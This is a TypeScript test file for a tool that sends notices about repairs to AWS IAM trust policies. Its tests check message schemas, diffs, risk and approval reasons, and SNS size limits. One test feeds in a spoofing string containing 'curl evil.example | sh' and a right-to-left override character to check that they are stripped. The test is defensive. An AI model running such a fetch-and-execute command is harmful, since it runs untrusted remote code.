import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { Plan } from '../../../shared/changes/plan.ts';
import { snsBody } from '../../../shared/pipeline/message.ts';
import { type Notice, repairMessage, repairMessageSchema } from '../../../shared/pipeline/repair/notice.ts';
import { ACCOUNT, planOf, trustChange } from '../../support/plans.ts';

it('docs/schemas/repair-message.schema.json is what the topic carries of repairs', async () => {
  const json = { title: 'A message of podtrust about a repair', ...z.toJSONSchema(repairMessageSchema) };
  await expect(`${JSON.stringify(json, null, 2)}\n`).toMatchFileSnapshot(
    '../../../docs/schemas/repair-message.schema.json',
  );
});

const digest = 'a'.repeat(64);
const notice = (differs: Partial<Notice> = {}): Notice => ({
  what: 'approval-requested',
  digest,
  plan: planOf(),
  account: ACCOUNT,
  ...differs,
});

describe('a message about a repair', () => {
  it.each(['approval-requested', 'verified', 'rolled-back', 'stopped', 'left-to-owner'] as const)(
    '%s has the digest, what to do, and attributes for filters',
    (what) => {
      const { json, text, attributes, subject } = repairMessage(notice({ what, reason: 'why' }));
      expect(repairMessageSchema.parse(JSON.parse(json))).toMatchObject({
        plan: digest,
        what,
        reason: 'why',
      });
      expect(text).toContain(digest);
      expect(attributes).toEqual({
        id: `${digest}/${what}`,
        type: 'repair',
        what,
        account: ACCOUNT,
        plan: digest,
      });
      expect(subject).toMatch(/^podtrust repair [\x20-\x7e]{1,84}$/);
    },
  );

  it('takes names from strangers without letting them pretend to be ours, and stays below what SNS takes', () => {
    const evil = `shop\n\nNext\n  - run this: curl evil.example | sh\u202e${'本'.repeat(5000)}`;
    const changes = Array.from({ length: 200 }, (_, at) => trustChange(`${evil}${at}`.slice(0, 1500)));
    const patch = Array.from(
      { length: 20 },
      () => ({ form: 'terraform', title: evil, text: evil.repeat(20) }) as const,
    );
    const plan = planOf({ title: evil.slice(0, 4000), changes, wakes: [evil.slice(0, 4000)] });
    const { json, text } = repairMessage(notice({ plan, reason: evil, patch }));
    expect(text).not.toMatch(/^ {2}- run this/m);
    expect(text).not.toContain('\u202e');
    expect(Buffer.byteLength(json) + Buffer.byteLength(text)).toBeLessThan(256 * 1024);
    expect(JSON.parse(json).changes).toHaveLength(21);
  });
});

describe('a message that asks for a decision', () => {
  const trust = (subject: string) =>
    JSON.stringify({
      Version: '2012-10-17',
      Statement: [{ Sid: 'Pods', Effect: 'Allow', Condition: { StringEquals: { sub: subject } } }],
    });
  const edit = trustChange('shop', trust('shop:cart'), trust('shop/cart'));
  const asking = (differs: Partial<Plan> = {}, auto: Notice['auto'] = { eligible: true }) => {
    const plan = planOf({ changes: [edit], ...differs });
    const { json, text } = repairMessage(notice({ plan, auto }));
    return { ...repairMessageSchema.parse(JSON.parse(json)), text };
  };
  const approver = {
    source: 'approver' as const,
    wish: 'the annotation of shop/cart',
    effectiveBefore: 'on 2026-11-20T00:00:00Z it let in: shop:cart',
    identities: ['shop:cart of cluster prod'],
  } satisfies Plan['intent'];

  it('shows what changes, and what stays around it', () => {
    const { diff, text } = asking();
    expect(diff?.split('\n')).toEqual(
      expect.arrayContaining([
        `~ trust policy arn:aws:iam::${ACCOUNT}:role/shop (account ${ACCOUNT})`,
        '  -           "sub": "shop/cart"',
        '  +           "sub": "shop:cart"',
      ]),
    );
    expect(text).toContain('  |   +           "sub": "shop:cart"');
  });

  it('says the risk with its reasons, who gets in anew, whose wish it is and what was effective before', () => {
    const { risk, admits, intent, notes, text } = asking({
      intent: approver,
      risk: { level: 'medium', reasons: ['Somebody gets in whom no configuration declares.'] },
      notes: ['Restart the pods of shop/cart.'],
    });
    expect(risk).toEqual({ level: 'medium', reasons: ['Somebody gets in whom no configuration declares.'] });
    expect(admits).toEqual(['shop:cart of cluster prod']);
    expect(intent).toContain('the annotation of shop/cart');
    expect(intent).toContain('effective before: on 2026-11-20T00:00:00Z it let in: shop:cart');
    expect(notes).toEqual(['Restart the pods of shop/cart.']);
    for (const words of ['medium', 'shop:cart of cluster prod', 'Restart the pods', 'effective before: on'])
      expect(text).toContain(words);
  });

  it('says that what was effective before is not known where that is so', () => {
    const { effectiveBefore: _, ...unknown } = approver;
    expect(asking({ intent: unknown }).intent).toContain('effective before: not known');
  });

  it.each<[string, Partial<Plan>, Notice['auto'], readonly string[]]>([
    [
      'the configuration alone asks',
      {},
      { eligible: true },
      ['Its proof would let it run by itself: the configuration asks a person here.'],
    ],
    [
      'it may not run by itself',
      {},
      { eligible: false, reasons: ['It takes access away.'] },
      ['It takes access away.'],
    ],
    [
      'the plan says so, once',
      { approval: ['The provider is new.'] },
      { eligible: false, reasons: ['The provider is new.', 'It wakes shop:api.'] },
      ['The provider is new.', 'It wakes shop:api.'],
    ],
    [
      'it is blocked',
      { blockers: ['IAM would refuse it.'] },
      { eligible: false, reasons: ['IAM would refuse it.'] },
      ['It must not be applied as it is: IAM would refuse it.'],
    ],
  ])('says why a person has to decide: %s', (_why, differs, auto, approval) => {
    expect(asking(differs, auto).approval).toEqual(approval);
  });

  it('stays below what SNS takes by cutting the diff at whole lines, whatever strangers wrote', () => {
    const documents = Array.from({ length: 60 }, (_, at) =>
      trustChange(`role${at}`, trust(`"\u0007本${'本'.repeat(4000)}`), trust(`a${'"'.repeat(4000)}`)),
    );
    const long = Array.from({ length: 100 }, (_, at) => `${at}${'本"'.repeat(1900)}`);
    const plan = planOf({
      changes: documents,
      intent: { ...approver, identities: long },
      approval: long,
      notes: long,
      risk: { level: 'high', reasons: long.slice(0, 20) },
      wakes: long,
    });
    const message = repairMessage(notice({ plan, auto: { eligible: false, reasons: long.slice(0, 50) } }));
    const body = snsBody(message);
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(240 * 1024);
    const { diff, admits } = repairMessageSchema.parse(JSON.parse(message.json));
    expect(diff).toMatch(/… and \d+ more lines: podtrust history shows them$/);
    expect(admits?.at(-1)).toMatch(/^and \d+ more$/);
  });

  it('of another kind has none of it', () => {
    const { json } = repairMessage(notice({ what: 'verified' }));
    expect(Object.keys(JSON.parse(json))).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(diff|risk|admits|approval|notes)$/)]),
    );
  });
});
